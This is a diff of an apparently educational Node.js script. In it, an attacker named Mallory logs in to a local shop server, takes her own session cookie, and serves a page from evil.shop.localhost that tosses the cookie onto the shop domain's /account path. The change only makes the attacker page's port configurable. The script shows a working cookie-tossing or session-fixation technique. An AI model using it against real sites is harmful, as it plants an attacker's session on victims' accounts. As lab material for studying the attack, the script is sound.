@@ -3,7 +3,7 @@
  */
 import { createServer } from 'node:http';
 
-const { PORT = '4000', MALLORY_PASSWORD = '' } = process.env;
+const { PORT = '4000', PAGE_PORT = '4666', MALLORY_PASSWORD = '' } = process.env;
 
 console.log('Mallory logs in, and takes the cookie that she gets.');
 const login = await fetch(`http://localhost:${PORT}/login`, {
@@ -25,6 +25,6 @@ const page = `<!doctype html>
 createServer((req, res) => {
   res.setHeader('Set-Cookie', `${cookie}; Domain=shop.localhost; Path=/account; Secure`);
   res.setHeader('Content-Type', 'text/html').end(page);
-}).listen(4666, 'localhost', () => {
-  console.log("Mallory's page: http://evil.shop.localhost:4666. Ctrl-C takes it down.");
+}).listen(Number(PAGE_PORT), 'localhost', () => {
+  console.log(`Mallory's page: http://evil.shop.localhost:${PAGE_PORT}. Ctrl-C takes it down.`);
 });
